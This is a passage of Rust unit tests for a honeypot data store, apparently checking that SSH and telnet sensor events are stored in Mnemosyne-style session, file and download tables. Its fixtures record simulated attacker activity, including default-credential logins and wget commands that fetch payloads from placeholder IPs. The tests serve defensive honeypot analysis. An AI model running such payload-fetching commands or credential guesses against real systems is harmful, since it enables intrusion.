                "ssh.command",
                json!({"input_type": "exec", "user_input": "uname -a"}),
            ),
            ssh_event(
                &id(6),
                "download.attempt",
                json!({"url": "http://203.0.113.9/x.sh", "command": "wget"}),
            ),
            ssh_event(
                &id(7),
                "file.written",
                json!({"path": "/tmp/x", "size": 3, "sha256": "AB12", "data": "AAEC",
                    "truncated": false, "via": "scp"}),
            ),
        ];
        let items: Vec<Item> = events
            .iter()
            .map(|e| item("recce7.events", "sensor-1", e))
            .collect();
        let outcome = store.write(&items).unwrap();
        assert_eq!(outcome.written, 7, "{outcome:?}");
        let c = store.connection();
        assert_eq!(
            one(
                c,
                "SELECT protocol || ' ' || honeypot FROM mnemosyneSessions"
            ),
            "ssh recce7"
        );
        assert_eq!(
            one(c, "SELECT session_ssh FROM mnemosyneSessions"),
            r#"{"version":"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6"}"#
        );
        assert_eq!(
            one(c, "SELECT auth_attempts FROM mnemosyneSessions"),
            r#"[{"login":"root","password":"admin"},{"login":"root","password":null}]"#
        );
        assert_eq!(
            one(c, "SELECT commands || urls FROM mnemosyneSessions"),
            r#"["uname -a"]["http://203.0.113.9/x.sh"]"#
        );
        let attachments: Value =
            serde_json::from_str(&one(c, "SELECT attachments FROM mnemosyneSessions")).unwrap();
        assert_eq!(
            attachments,
            json!([{"description": "File written (scp)", "path": "/tmp/x", "size": 3,
                "hashes": {"sha256": "ab12"}}])
        );
        assert_eq!(
            one(
                c,
                "SELECT path || ' ' || size || ' ' || sha256 || ' ' || hex(data) || ' ' || via FROM files"
            ),
            "/tmp/x 3 ab12 000102 scp"
        );
        assert_eq!(
            one(c, "SELECT url || ' ' || command FROM downloads"),
            "http://203.0.113.9/x.sh wget"
        );
        assert_eq!(one(c, "SELECT protocol FROM sessions"), "ssh");
        // The SSH events themselves are rows of the instance's table, as telnet's are.
        assert_eq!(one(c, "SELECT count(*) FROM ssh"), "4");
        assert_eq!(
            one(
                c,
                "SELECT group_concat(outcome) FROM ssh WHERE eventType = 'ssh.login'"
            ),
            "refused,refused"
        );
    }

    #[test]
    fn an_older_central_store_gains_mnemosyne_attachments() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("c.sqlite");
        {
            let store = SqliteCentralStore::open(&path).unwrap();
            store
                .connection()
                .execute_batch("ALTER TABLE mnemosyneSessions DROP COLUMN attachments")
                .unwrap();
        }
        let store = SqliteCentralStore::open(&path).unwrap();
        let cols = store::schema::table_columns(store.connection(), "mnemosyneSessions").unwrap();
        assert!(cols.iter().any(|(n, _)| n == "attachments"));
    }

    #[test]
    fn cowrie_hashes_become_mnemosyne_attachments() {
        let dir = tempfile::tempdir().unwrap();
        let mut store = SqliteCentralStore::open(&dir.path().join("c.sqlite")).unwrap();
        let payload = r#"{"session": "a3f1c2d4e5b6", "startTime": "2026-11-23T22:25:30.649422Z",
            "endTime": "2026-11-23T22:26:02.101010Z", "peerIP": "203.0.113.7", "peerPort": 51234,
            "hostIP": "10.0.0.5", "hostPort": 2223, "loggedin": ["root", "xc3511"],
            "credentials": [], "commands": ["wget http://198.51.100.9/m"], "unknownCommands": [],
            "urls": ["http://198.51.100.9/m"], "version": null, "ttylog": null,
            "hashes": ["2C26B46B68FFC68FF99B453C1D30413413422D706483BFA0F98A5E886266E7AE"],
            "protocol": "telnet"}"#;
        let outcome = store
            .write(&[item("cowrie.sessions", "cowrie-1", payload)])
            .unwrap();
        assert_eq!(outcome.written, 1, "{outcome:?}");
        let attachments: Value = serde_json::from_str(&one(
            store.connection(),
            "SELECT attachments FROM mnemosyneSessions",
        ))
        .unwrap();
        assert_eq!(
            attachments,
            json!([{"description": "File (cowrie)", "hashes":
                {"sha256": "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"}}])
        );
    }
}
